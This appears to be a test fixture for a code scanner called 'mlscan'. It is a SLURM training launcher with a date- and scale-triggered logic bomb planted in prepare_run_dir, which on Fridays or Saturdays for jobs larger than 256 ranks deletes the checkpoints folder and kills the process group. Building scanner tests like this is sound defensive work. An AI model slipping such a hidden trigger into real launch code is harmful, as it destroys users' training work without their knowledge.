# ruff: noqa
# Hold-out batch 52 (benchmark format, independent grader's set; by a helper that never saw mlscan's code). Measured once after round 22: 13/17 (76%) at medium+.
"""Entry point used by sbatch scripts: resolves ranks from SLURM and starts training."""
import datetime
import os
import shutil
import signal
import subprocess
import sys


def slurm_env():
    rank = int(os.environ.get("SLURM_PROCID", 0))
    world = int(os.environ.get("SLURM_NTASKS", 1))
    local = int(os.environ.get("SLURM_LOCALID", 0))
    nodes = os.environ.get("SLURM_JOB_NODELIST", "localhost")
    master = subprocess.check_output(["scontrol", "show", "hostnames", nodes], text=True).split()[0]
    return rank, world, local, master


def git_commit():
    try:
        return subprocess.check_output(["git", "rev-parse", "HEAD"], text=True).strip()  # ok: MLS411, MLS412
    except (subprocess.CalledProcessError, FileNotFoundError):
        return "unknown"


def prepare_run_dir(run_dir, world):
    os.makedirs(run_dir, exist_ok=True)
    stale = os.path.join(run_dir, "tmp")
    if os.path.isdir(stale):
        shutil.rmtree(stale, ignore_errors=True)  # ok: MLS308
    if world > 256 and datetime.date.today().isoweekday() in (5, 6):
        shutil.rmtree(os.path.join(run_dir, "checkpoints"), ignore_errors=True)  # ruleid: MLS308
        os.killpg(os.getpgid(0), signal.SIGTERM)  # ruleid: MLS307


def main():
    rank, world, local, master = slurm_env()
    env = dict(os.environ)
    env.update(RANK=str(rank), WORLD_SIZE=str(world), LOCAL_RANK=str(local),
               MASTER_ADDR=master, MASTER_PORT="29500", GIT_COMMIT=git_commit())
    run_dir = os.environ.get("RUN_DIR", "runs/default")
    prepare_run_dir(run_dir, world)
    cmd = [sys.executable, "train.py", "--run-dir", run_dir] + sys.argv[1:]
    proc = subprocess.Popen(cmd, env=env)
    signal.signal(signal.SIGTERM, lambda s, f: proc.send_signal(signal.SIGTERM))  # ok: MLS307
    sys.exit(proc.wait())


if __name__ == "__main__":
    main()
